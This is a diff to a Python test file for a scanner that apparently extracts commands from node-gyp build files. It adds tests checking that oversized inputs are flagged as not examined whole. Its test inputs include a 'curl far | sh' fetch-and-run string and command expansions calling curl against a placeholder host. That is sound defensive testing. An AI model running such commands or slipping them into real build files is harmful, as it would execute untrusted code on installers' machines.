@@ -137,3 +137,15 @@ def test_a_condition_that_is_code_is_read() -> None:
     facts = gyp.extract(b"""{'conditions': [['().__class__.f("curl far | sh")', {}]]}""")
 
     assert "curl" in {command.program for command in facts.commands}
+
+
+@pytest.mark.parametrize(
+    ("source", "cut"),
+    [
+        ("{'a': '<!(echo %s; curl https://far.invalid)'}" % ("a" * 30_000), True),
+        ("{'variables': {'x': '%s'}, 'a': '<!(echo <(x)<(x)<(x); curl x)'}" % ("a" * 9_000), True),
+        ("{'variables': {'x': '%s'}, 'a': '<!(echo <(x))'}" % ("a" * 9_000), False),
+    ],
+)
+def test_a_text_that_is_not_looked_at_whole_is_told(source: str, cut: bool) -> None:
+    assert cut is ("cut" in (gyp.extract(source.encode()).problem or ""))
